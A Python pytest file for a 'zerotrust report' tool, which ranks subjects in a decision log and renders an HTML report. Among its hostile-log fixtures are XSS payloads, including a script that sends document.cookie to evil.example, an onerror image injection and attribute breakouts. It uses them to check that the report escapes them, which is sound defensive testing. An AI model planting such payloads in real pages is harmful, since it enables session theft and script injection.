"""``zerotrust report``: figures read from the log, the ranking, the page, the command.

The log is attacker-influenced and may be anything: the hostile-log tests feed it
script tags, quotes, bidirectional overrides, lone surrogates, huge and broken lines
and JSON that is not a decision record, and check that every line is accounted for and
nothing from the log becomes markup.
"""

from __future__ import annotations

import datetime
import gzip
import html.parser
import json
import os
import re
import stat
import subprocess
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from report_helpers import AGENTS, INSIDER, PEERS, write_log

from zerotrust import ReportError
from zerotrust.audit.sinks import encode_line
from zerotrust.cli import main
from zerotrust.report import ReportOptions, build_report, write_report
from zerotrust.report.load import read_decisions, read_log
from zerotrust.report.rank import quantile, rank
from zerotrust.report.render import render_html, text

DAY0 = datetime.datetime(2026, 3, 2, 9, 0, tzinfo=datetime.UTC)


@pytest.fixture(scope="module")
def peers_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("log") / "decisions.jsonl"
    write_log(path)
    return path


def record(
    subject: str = "u-1",
    *,
    at: datetime.datetime = DAY0,
    effect: str = "allow",
    resource: Any = "c-1",
    records: int = 1,
    reasons: Any = None,
    behavior: Any = None,
    action: Any = "read",
    decision_id: str | None = None,
) -> dict[str, Any]:
    """A decision record as JsonLinesLog writes it (the fields the report reads)."""
    out: dict[str, Any] = {
        "decision_id": decision_id or f"d-{subject}-{at.isoformat()}-{resource}",
        "time": at.isoformat(),
        "subject": {"type": "user", "id": subject},
        "action": action,
        "resource": {"type": "customer_record", "id": resource},
        "effect": effect,
        "matched_rules": ["p/r"],
        "reasons": reasons
        if reasons is not None
        else [{"rule": "p/r", "effect": effect, "reason": "because"}],
        "risk": {"score": 10, "signals": ["off-hours"]},
        "request": {"context": {"records": records}},
    }
    if behavior is not None:
        out["behavior"] = behavior
    return out


def write_lines(path: Path, lines: list[Any]) -> Path:
    """Each item a record (dict, encoded as JsonLinesLog does), a str or raw bytes."""
    with path.open("wb") as file:
        for line in lines:
            if isinstance(line, bytes):
                file.write(line)
            elif isinstance(line, str):
                file.write(line.encode("utf-8") + b"\n")
            else:
                file.write(encode_line(line))
    return path


class Page(html.parser.HTMLParser):
    """The page's tags, attributes and text, as a browser's parser would see them."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def assert_inert(source: str) -> Page:
    """Nothing in the page runs or loads: no script, no handler, no outside reference."""
    page = Page(source)
    assert "script" not in page.tags and "iframe" not in page.tags and "img" not in page.tags
    assert "link" not in page.tags and "object" not in page.tags and "embed" not in page.tags
    for name, value in page.attributes:
        assert not name.startswith("on"), name
        assert name not in ("src", "srcset", "action", "formaction", "background"), name
        if name in ("href", "xlink:href"):
            assert value is not None and value.startswith("#"), value
        if name == "style" and value:
            assert "url(" not in value or re.fullmatch(r".*url\(#[\w-]+\).*", value), value
    assert "@import" not in source and "url(http" not in source
    return page


# --- reading the log -----------------------------------------------------------------------


def test_figures_per_subject_and_utc_day(tmp_path: Path) -> None:
    late = DAY0.replace(hour=23, minute=30).astimezone(
        datetime.timezone(datetime.timedelta(hours=5))
    )
    log = write_lines(
        tmp_path / "d.jsonl",
        [
            record(records=10, resource="c-1"),
            record(records=7, resource="c-1"),  # same resource: counted once that day
            record(records=50, resource="c-2", effect="deny"),  # read nothing
            record(records=3, resource="c-3", effect="step_up"),
            record(at=late, records=4, resource="c-1"),  # 23:30 UTC, written at +05:00
            record(at=DAY0 + datetime.timedelta(days=1), records=2, resource="c-1"),
            record(
                at=DAY0 + datetime.timedelta(days=1),
                resource="c-9",
                behavior={
                    "new_device": True,
                    "new_country": True,
                    "peers": PEERS,
                    "records_24h_vs_peers": 0.1,
                },
            ),
        ],
    )
    figures = read_log(log)
    (subject,) = figures.subjects
    first, second = subject.days
    assert first.day == datetime.date(2026, 3, 2) and second.day == datetime.date(2026, 3, 3)
    assert (first.decisions, first.allows, first.denies, first.step_ups) == (5, 3, 1, 1)
    assert first.records == 10 + 7 + 4 and first.distinct == 3
    assert (second.records, second.distinct, second.new_devices, second.new_countries) == (
        3,
        2,
        1,
        1,
    )
    assert first.peers_records is None
    assert second.peers_records == (40.0, 52.0) and second.peers_distinct == (5.0, 7.0)
    assert second.records_vs_peers == 0.1
    assert subject.group == "department=support" and subject.members == 7
    assert figures.decisions == 7 and figures.skipped == ()
    assert figures.first == DAY0 and figures.last == DAY0 + datetime.timedelta(days=1)


def test_figures_of_a_log_written_by_the_pdp(peers_log: Path) -> None:
    figures = read_log(peers_log)
    assert figures.decisions == len(peers_log.read_text().splitlines())
    subjects = {s.id: s for s in figures.subjects}
    assert set(subjects) == set(AGENTS)
    normal = subjects["u-00"]
    assert [d.records for d in normal.days] == [40] * 10
    assert all(d.peers_records == (40.0, 52.0) for d in normal.days)
    insider = subjects[INSIDER]
    bulk = insider.days[-1]
    assert bulk.denies > 0 and bulk.step_ups == 1 and bulk.new_devices == 1
    assert bulk.records_vs_peers is not None and bulk.records_vs_peers > 5.0
    rules = {(r.rule, r.effect) for r in insider.rules}
    assert ("reads/deny-far-above-peers", "deny") in rules


@pytest.mark.parametrize("name", ["decisions.jsonl.gz", "decisions.jsonl"])
def test_gzip_log_reads_as_the_plain_one(peers_log: Path, tmp_path: Path, name: str) -> None:
    """Recognised by its content: a rotated log is often compressed under its old name."""
    packed = tmp_path / name
    packed.write_bytes(gzip.compress(peers_log.read_bytes()))
    assert read_log(packed).subjects == read_log(peers_log).subjects


def test_gzip_log_cut_short_is_an_os_error(peers_log: Path, tmp_path: Path) -> None:
    packed = tmp_path / "cut.jsonl.gz"
    packed.write_bytes(gzip.compress(peers_log.read_bytes())[:-200])
    with pytest.raises(OSError, match=f"^{packed}: compressed data is cut short or corrupt"):
        read_log(packed)


# --- ranking -------------------------------------------------------------------------------


def test_insider_ranks_first_against_the_logged_peer_figures(peers_log: Path) -> None:
    _, ranked = rank(read_log(peers_log))
    top = ranked[0]
    assert top.subject.id == INSIDER and top.flagged and top.basis == "peers"
    assert top.volume is not None and top.volume > 5.0
    assert dict(top.parts)["denials"] == 25.0  # the median agent was never refused
    assert top.hot_days == {top.subject.days[-1].day}
    assert all(not r.flagged and r.score == 0 for r in ranked[1:])


def test_without_peer_figures_subjects_are_compared_with_all_subjects(tmp_path: Path) -> None:
    log = tmp_path / "d.jsonl"
    write_log(log, peers=None, bulk=12)
    everyone, ranked = rank(read_log(log))
    assert everyone.records == (40.0, 40.0)
    top = ranked[0]
    assert top.subject.id == INSIDER and top.basis == "all subjects"
    assert top.volume == max(d.records for d in top.subject.days) / 40.0
    assert top.flagged


def test_denials_count_beyond_the_median_subject(tmp_path: Path) -> None:
    lines = [record(f"u-{n}", effect="deny", resource=f"c-{k}") for n in range(5) for k in range(3)]
    lines += [record("u-0", effect="deny", resource=f"x-{k}") for k in range(2)]
    everyone, ranked = rank(read_log(write_lines(tmp_path / "d.jsonl", lines)))
    assert everyone.denies == 3.0
    assert [(r.subject.id, r.score) for r in ranked] == [("u-0", 10.0)] + [
        (f"u-{n}", 0.0) for n in range(1, 5)
    ]


@given(
    st.sampled_from([1e308, 1e-320, -5.0, 2e9, 5e-324]),  # a log holds no inf or NaN
    st.sampled_from(["median", "ratio"]),
)
@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_forged_peer_figures_cannot_make_an_infinite_score(
    tmp_path: Path, forged: float, where: str
) -> None:
    """A log line whose peer median or ratio no store could compute (1e-320, 1e308,
    negative) gives no infinite or absurd ratio, score or page text."""
    peers = {"group": "department=support", "members": 9}
    figures = {"median": 40.0, "p95": 45.0}
    behavior: dict[str, Any] = {
        "peers": {**peers, "records_per_day": figures, "distinct_per_day": figures},
        "records_24h_vs_peers": 1.0,
    }
    if where == "median":
        behavior["peers"]["records_per_day"] = {"median": forged, "p95": forged}
    else:
        behavior["records_24h_vs_peers"] = forged
    lines = [record(f"u-{n}", resource=f"c-{n}") for n in range(6)]
    lines.append(record("u-anna", records=3, behavior=behavior))
    log = write_lines(tmp_path / f"forged-{where}.jsonl", lines)
    _, ranked = rank(read_log(log))
    for row in ranked:
        assert row.volume is None or row.volume <= 1e9
        assert row.score == row.score and row.score <= 100
    page = render_html(build_report(log))
    assert "infx" not in page and "nanx" not in page and "e+308" not in page


def test_points_are_the_documented_ones() -> None:
    from zerotrust.report.rank import _doublings

    assert _doublings(2.0, 20, 40) == 0 and _doublings(4.0, 20, 40) == 20
    assert _doublings(8.0, 20, 40) == 40 and _doublings(1000.0, 20, 40) == 40
    assert _doublings(None, 20, 40) == 0


@given(st.lists(st.floats(-1e6, 1e6), min_size=1, max_size=40), st.floats(0, 1))
def test_quantile_is_linear_between_closest_ranks(values: list[float], q: float) -> None:
    ordered = sorted(values)
    result = quantile(values, q)
    assert ordered[0] <= result <= ordered[-1]
    assert quantile(values, 0.0) == ordered[0] and quantile(values, 1.0) == ordered[-1]
    if len(values) == 5:
        assert quantile(values, 0.5) == ordered[2]


def test_top_and_min_score_choose_the_detailed_subjects(tmp_path: Path) -> None:
    lines = [
        record(f"u-{n}", effect="deny", resource=f"c-{k}") for n in range(6) for k in range(n + 1)
    ] + [record(f"z-{n}") for n in range(6)]  # the median subject is never refused
    log = write_lines(tmp_path / "d.jsonl", lines)
    _, ranked = rank(read_log(log), ReportOptions(top=2, min_score=10))
    assert [r.subject.id for r in ranked if r.flagged] == ["u-5", "u-4"]
    _, ranked = rank(read_log(log), ReportOptions(top=10, min_score=15))
    assert [r.subject.id for r in ranked if r.flagged] == ["u-5", "u-4", "u-3", "u-2"]


# --- what is kept is bounded ----------------------------------------------------------------


def test_subject_limit_counts_the_lines_of_later_subjects(tmp_path: Path) -> None:
    log = write_lines(tmp_path / "d.jsonl", [record(f"u-{n}") for n in range(5)] + [record("u-0")])
    figures = read_log(log, ReportOptions(max_subjects=3))
    assert [s.id for s in figures.subjects] == ["u-0", "u-1", "u-2"]
    assert figures.skipped == (("beyond the subject limit", 2, (4, 5)),)
    assert figures.decisions == 4


def test_day_limit_keeps_the_newest_days(tmp_path: Path) -> None:
    days = [DAY0 + datetime.timedelta(days=n) for n in range(5)]
    log = write_lines(tmp_path / "d.jsonl", [record(at=at) for at in days] + [record(at=days[0])])
    (subject,) = read_log(log, ReportOptions(max_days=2)).subjects
    assert [d.day for d in subject.days] == [days[3].date(), days[4].date()]
    assert subject.decisions_dropped == 4


def test_distinct_resources_saturate_at_the_cap(tmp_path: Path) -> None:
    log = write_lines(tmp_path / "d.jsonl", [record(resource=f"c-{n}") for n in range(10)])
    (subject,) = read_log(log, ReportOptions(max_distinct=4)).subjects
    (day,) = subject.days
    assert day.distinct == 4 and day.distinct_capped and day.decisions == 10


def test_days_two_behind_are_closed_and_count_a_late_resource(tmp_path: Path) -> None:
    later = DAY0 + datetime.timedelta(days=2)
    log = write_lines(
        tmp_path / "d.jsonl",
        [record(resource="c-1"), record(at=later), record(resource="c-1")],
    )
    (subject,) = read_log(log).subjects
    assert subject.days[0].distinct == 2  # the set was dropped: the late c-1 counts again


def test_a_huge_line_is_skipped_without_being_held(tmp_path: Path) -> None:
    path = tmp_path / "d.jsonl"
    with path.open("wb") as file:
        file.write(json.dumps(record("u-1")).encode() + b"\n")
        file.write(b'{"decision_id": "' + b"x" * (24 << 20) + b'"}\n')
        file.write(json.dumps(record("u-2")).encode() + b"\n")
    tracemalloc.start()
    try:
        figures = read_log(path, ReportOptions(max_line_bytes=1 << 16))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 2 << 20  # a 24 MiB line, never more than a few chunks of it at once
    assert figures.skipped == (("too long", 1, (2,)),)
    assert [s.id for s in figures.subjects] == ["u-1", "u-2"]


def test_decisions_kept_are_bounded_and_the_notable_first(tmp_path: Path) -> None:
    lines = [
        record(at=DAY0 + datetime.timedelta(minutes=n), effect="deny" if n % 10 == 0 else "allow")
        for n in range(100)
    ]
    log = write_lines(tmp_path / "d.jsonl", lines)

    def refused(row: Any, day: int) -> bool:
        return bool(row.effect != "allow")

    found = read_decisions(log, {("user", "u-1"): refused}, ReportOptions(max_decisions=15))
    rows, not_listed = found[("user", "u-1")]
    assert len(rows) == 15 and not_listed == 85
    assert sum(r.effect == "deny" for r in rows) == 10  # every refusal kept
    assert [r.time for r in rows] == sorted(r.time for r in rows)
    assert rows[-1].time == DAY0 + datetime.timedelta(minutes=99)  # then the latest others


def test_second_pass_reads_only_the_lines_of_the_first(tmp_path: Path) -> None:
    log = write_lines(tmp_path / "d.jsonl", [record(resource=f"c-{n}") for n in range(3)])
    figures = read_log(log)
    with log.open("a") as file:  # appended to while the report is built
        file.write(json.dumps(record(resource="c-late", effect="deny")) + "\n")
    found = read_decisions(log, {("user", "u-1"): lambda r, d: True}, lines=figures.lines)
    rows, not_listed = found[("user", "u-1")]
    assert [r.resource for r in rows] == [f"customer_record/c-{n}" for n in range(3)]
    assert not_listed == 0


def test_report_options_refuse_values_out_of_range() -> None:
    for field, value in [
        ("top", -1),
        ("top", 1.5),
        ("max_subjects", 0),
        ("max_line_bytes", 10),
        ("min_score", float("nan")),
        ("min_score", True),
        ("ranked", "10"),
    ]:
        with pytest.raises(ReportError, match=field):
            ReportOptions(**{field: value})


# --- the page --------------------------------------------------------------------------------

HOSTILE_ID = '<script>alert("id")</script>'
HOSTILE_RESOURCE = "c-1'\"><img src=x onerror=alert(1)></td>"
HOSTILE_REASON = "</table><script>fetch('https://evil.example/?c='+document.cookie)</script>"
BIDI_ID = "u-\u202eexe.txt"


def hostile_lines() -> list[Any]:
    """A log an attacker had a hand in, with the lines the report must skip, each
    marked with why: (line, reason or None for a decision record)."""
    evil: list[Any] = [
        record(
            HOSTILE_ID,
            effect="deny",
            resource=HOSTILE_RESOURCE,
            at=DAY0 + datetime.timedelta(minutes=n),
            reasons=[{"rule": "p/<b>x</b>", "effect": "deny", "reason": HOSTILE_REASON}],
            action='read" onmouseover="alert(1)',
            behavior={"new_device": True, "peers": {**PEERS, "group": "<i>g</i>&amp;"}},
        )
        for n in range(6)
    ]
    return [
        *evil,
        record(BIDI_ID, effect="deny", resource="c-\ud800"),
        record(BIDI_ID, effect="deny", resource="c-\ud800", at=DAY0.replace(minute=1)),
        record("u-normal"),
        "",  # blank
        "not json at all",
        '{"decision_id": "a",',
        '{"decision_id": "n", "risk": {"score": NaN}}',
        "[" * 100_000 + "]" * 100_000,  # nested too deep for the parser
        "1" * 5000,  # an integer Python refuses to read
        b"\xff\xfe{}\n",  # not UTF-8
        b'{"decision_id": "' + b"x" * (2 << 20) + b'"}\n',  # too long
        "[1, 2]",
        "42",
        '{"hello": "world"}',
        json.dumps({**record("u-x"), "time": "2026-03-02T09:00:00"}),  # no offset
        json.dumps({**record("u-x"), "time": "yesterday"}),
        json.dumps({**record("u-x"), "effect": "maybe"}),
        json.dumps({**record("u-x"), "decision_id": 7}),
        json.dumps({**record("u-x"), "subject": {"type": "user", "id": 7}}),
        json.dumps({**record("u-x"), "subject": "u-x"}),
        json.dumps(record("u-last")),  # the last line, without a newline: still read
    ]


SKIPPED = {
    "blank": 1,
    "too long": 1,
    "not UTF-8": 1,
    "not JSON": 5,
    "not a decision record": 9,
}


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "decisions.jsonl"
    lines = hostile_lines()
    write_lines(path, lines[:-1])
    with path.open("ab") as file:
        file.write(lines[-1].encode())  # no newline at the end
    return path


def test_hostile_log_lines_are_counted_by_why_and_nothing_crashes(hostile_log: Path) -> None:
    figures = read_log(hostile_log)
    assert {reason: count for reason, count, _ in figures.skipped} == SKIPPED
    assert figures.lines == len(hostile_lines())
    assert figures.decisions == 10
    assert {s.id for s in figures.subjects} == {HOSTILE_ID, BIDI_ID, "u-normal", "u-last"}
    first_lines = {reason: lines for reason, _, lines in figures.skipped}
    assert first_lines["blank"] == (10,) and first_lines["not UTF-8"] == (16,)


def test_hostile_log_page_escapes_everything_taken_from_the_log(
    hostile_log: Path, tmp_path: Path
) -> None:
    out = tmp_path / "report.html"
    report = write_report(hostile_log, out, ReportOptions(min_score=5))
    source = out.read_text("utf-8")  # strict UTF-8: the lone surrogate was escaped
    page = assert_inert(source)
    assert [d.ranked.subject.id for d in report.details] == [HOSTILE_ID, BIDI_ID]
    for raw in (HOSTILE_ID, HOSTILE_RESOURCE, HOSTILE_REASON, "<b>x</b>", "<i>g</i>"):
        assert raw not in source
    shown = "".join(page.texts)
    assert HOSTILE_ID in shown  # shown as text, exactly
    assert "customer_record/" + HOSTILE_RESOURCE in shown
    assert HOSTILE_REASON in shown and "p/<b>x</b>" in shown
    assert "<i>g</i>&amp;" in shown  # the group name as logged, entity text and all
    assert 'read" onmouseover="alert(1)' in shown
    assert "u-\\u202eexe.txt" in shown and "\u202e" not in source  # no hidden reversal
    assert "c-\\ud800" in shown
    assert "not a decision record" in shown and "Lines skipped" in shown


def test_page_is_self_contained(peers_log: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    write_report(peers_log, out)
    source = out.read_text("utf-8")
    page = assert_inert(source)
    assert "svg" in page.tags and "text" in page.tags  # the chart, its text kept as text
    assert "Content-Security-Policy" in source and "default-src 'none'" in source
    ids = re.findall(r'\bid="([^"]+)"', source) + re.findall(r"\bid='([^']+)'", source)
    assert len(ids) == len(set(ids))  # several charts share the page without id clashes
    references = set(re.findall(r"url\(#([\w-]+)\)", source))
    assert references <= set(ids)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # it quotes the log


def test_charts_hold_no_text_from_the_log(hostile_log: Path) -> None:
    report = build_report(hostile_log, ReportOptions(min_score=0, top=5))
    assert len(report.details) == 4
    for detail in report.details:
        assert detail.chart.startswith("<svg")
        for raw in (HOSTILE_ID, "alert", "u-normal", "u-last", "\u202e"):
            assert raw not in detail.chart
    assert "peer group median" in report.details[0].chart
    ids = [i for d in report.details for i in re.findall(r'id="([^"]+)"', d.chart)]
    assert len(ids) == len(set(ids))


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    subject=st.text(min_size=1, max_size=300),
    resource=st.one_of(st.text(max_size=300), st.integers(), st.none()),
    reason=st.text(max_size=300),
    rule=st.text(max_size=60),
)
def test_any_logged_text_is_shown_as_text_and_never_markup(
    tmp_path_factory: pytest.TempPathFactory, subject: str, resource: Any, reason: str, rule: str
) -> None:
    path = tmp_path_factory.mktemp("any") / "d.jsonl"
    lines = [
        record(
            subject,
            effect="deny",
            resource=resource,
            at=DAY0 + datetime.timedelta(minutes=n),
            reasons=[{"rule": rule, "effect": "deny", "reason": reason}],
        )
        for n in range(5)
    ]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    report = build_report(path, ReportOptions(min_score=0))
    source = render_html(report)
    source.encode("utf-8")  # strict: nothing unencodable reaches the page
    page = assert_inert(source)
    shown = "".join(page.texts)
    assert html_text(text(subject)) in shown
    assert html_text(text(reason)) in shown or not reason


def html_text(escaped: str) -> str:
    return "".join(Page(f"<p>{escaped}</p>").texts)


def test_text_escapes_cuts_and_shows_what_does_not_print() -> None:
    assert text('<a href="x">') == "&lt;a href=&quot;x&quot;&gt;"
    assert text("a\x00b\u200bc\U000e0041") == "a\\x00b\\u200bc\\U000e0041"
    long = "x" * 500
    assert text(long, 10) == "xxxxxxxxxx\u2026 (500 characters)"


# --- the command ------------------------------------------------------------------------------


def test_cli_report_writes_the_page_and_one_summary_line(
    peers_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "report.html"
    assert main(["report", "--log", str(peers_log), "--out", str(out), "--title", "<t>"]) == 0
    stdout, stderr = capsys.readouterr()
    assert (
        stdout == f"{out}: 440 decisions of 8 subjects, 1 shown in detail; 0 of 440 lines skipped\n"
    )
    assert stderr == ""
    source = out.read_text("utf-8")
    assert "<title>&lt;t&gt;</title>" in source
    assert [p for p in tmp_path.iterdir() if p.name != "report.html"] == []  # no temporary left


def test_cli_report_counts_skipped_lines(
    hostile_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "report.html"
    assert main(["report", "--log", str(hostile_log), "--out", str(out)]) == 0
    stdout, _ = capsys.readouterr()
    assert stdout.endswith(
        "17 of 27 lines skipped (1 blank, 1 too long, 1 not UTF-8, 5 not JSON, "
        "9 not a decision record)\n"
    )


@pytest.mark.parametrize(
    ("log", "out", "message"),
    [
        ("missing.jsonl", "report.html", "missing.jsonl: No such file or directory"),
        ("peers", "no/such/dir/report.html", "No such file or directory"),
        ("peers", ".", "Is a directory"),
    ],
)
def test_cli_report_file_errors_are_one_line_exit_2(
    peers_log: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    log: str,
    out: str,
    message: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    source = str(peers_log) if log == "peers" else log
    assert main(["report", "--log", source, "--out", out]) == 2
    stdout, stderr = capsys.readouterr()
    assert stdout == "" and stderr.count("\n") == 1
    assert stderr.startswith("zerotrust report: ") and message in stderr


def test_cli_report_on_a_log_without_decisions_exits_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = write_lines(tmp_path / "d.jsonl", ["nope", '{"a": 1}'])
    assert main(["report", "--log", str(log), "--out", str(tmp_path / "r.html")]) == 1
    _, stderr = capsys.readouterr()
    assert stderr.count("\n") == 1 and "no decision records" in stderr
    assert "2 of 2 lines skipped (1 not JSON, 1 not a decision record)" in stderr


@pytest.mark.parametrize("args", [["--top", "-1"], ["--top", "x"], ["--min-score", "nan"]])
def test_cli_report_bad_options_are_usage_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["report", "--log", "d.jsonl", "--out", str(tmp_path / "r.html"), *args])
    assert exited.value.code == 2


def test_cli_report_without_matplotlib_names_the_extra(
    peers_log: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import zerotrust.report.charts as charts

    def missing() -> Any:
        raise ImportError("the report's charts need matplotlib: pip install 'zerotrust[report]'")

    monkeypatch.setattr(charts, "_matplotlib", missing)
    assert main(["report", "--log", str(peers_log), "--out", str(tmp_path / "r.html")]) == 2
    _, stderr = capsys.readouterr()
    assert "zerotrust[report]" in stderr and stderr.count("\n") == 1
    assert not (tmp_path / "r.html").exists()


def test_demo_log_feeds_the_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["demo", "--log", "decisions.jsonl"]) == 0
    stdout, _ = capsys.readouterr()
    lines = (tmp_path / "decisions.jsonl").read_text().splitlines()
    assert f"Decision log: decisions.jsonl ({len(lines)} decisions)" in stdout
    assert all("behavior" in json.loads(line) for line in lines)
    report = write_report("decisions.jsonl", "report.html")
    assert report.figures.skipped == ()
    top = report.ranked[0]
    assert top.subject.id == "u-eve" and top.flagged and report.flagged == 1
    assert top.subject.total("denies") > 0 and top.subject.total("new_devices") == 1
    rows = report.details[0].rows
    assert any("new device" in row.notes for row in rows)
    assert {row.effect for row in rows} >= {"deny", "step_up"}


def test_demo_log_refuses_a_file_that_is_not_empty(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "decisions.jsonl"
    log.write_text("{}\n")
    assert main(["demo", "--log", str(log)]) == 2
    _, stderr = capsys.readouterr()
    assert stderr.count("\n") == 1 and "exists and is not empty" in stderr
    assert log.read_text() == "{}\n"


def test_importing_the_report_package_does_not_import_matplotlib() -> None:
    code = "import sys, zerotrust.report, zerotrust.cli; print('matplotlib' in sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert done.stdout.strip() == "False"


def test_times_far_apart_give_a_bounded_chart(tmp_path: Path) -> None:
    far = [
        datetime.datetime(1, 1, 1, 12, tzinfo=datetime.UTC),
        datetime.datetime(9999, 12, 31, 12, tzinfo=datetime.UTC),
        datetime.datetime(5000, 6, 1, tzinfo=datetime.timezone(datetime.timedelta(hours=-14))),
    ]
    lines = [record(at=at, effect="deny", resource=f"c-{n}") for n, at in enumerate(far * 2)]
    lines.append({**record(), "time": "0001-01-01T00:30:00+01:00"})  # before year 1 in UTC
    log = write_lines(tmp_path / "d.jsonl", lines)
    out = tmp_path / "report.html"
    report = write_report(log, out, ReportOptions(min_score=0, max_days=30))
    assert report.figures.skipped == (("not a decision record", 1, (7,)),)
    (detail,) = report.details
    assert [d.day.year for d in detail.ranked.subject.days] == [1, 5000, 9999]
    assert detail.chart.count("<path") < 400  # 30 days charted, not 3.6 million
    assert "0001-01-01 12:00:00" in out.read_text("utf-8")


def test_long_texts_are_kept_cut_and_two_long_ids_stay_two(tmp_path: Path) -> None:
    first, second = "u-" + "a" * 300_000, "u-" + "a" * 299_999 + "b"
    long_reason = [{"rule": "p/r", "effect": "deny", "reason": "r" * 9000}]
    lines = [  # (decision ids of their own: the helper's would quote the ids)
        record(first, effect="deny", reasons=long_reason, decision_id="d-1"),
        record(second, effect="deny", resource="c-" + "x" * 400_000, decision_id="d-2"),
        record(second, effect="deny", resource="c-2", decision_id="d-3"),
    ]
    log = write_lines(tmp_path / "d.jsonl", lines)
    tracemalloc.start()
    try:
        figures = read_log(log)
        wanted = {(s.type, s.id): (lambda row, day: True) for s in figures.subjects}
        found = read_decisions(log, wanted)
        kept = tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()
    assert kept < 1 << 20  # the 1.4 MB of texts are not kept
    report = build_report(log, ReportOptions(min_score=0))
    assert report.figures == figures and len(found) == 2
    ids = sorted(s.id for s in report.figures.subjects)
    assert len(ids) == 2 and all(len(i) < 260 for i in ids)
    assert all(i.startswith("u-aaa") and "(300,002 characters, sha256 " in i for i in ids)
    (reason,) = [r.reason for r in report.figures.subjects[0].rules]
    assert reason == "r" * 200 + "\u2026 (9,000 characters, sha256 " + reason[-17:]
    resources = {row.resource for d in report.details for row in d.rows}
    assert "customer_record/c-2" in resources
    assert any("(400,018 characters, sha256" in r for r in resources)
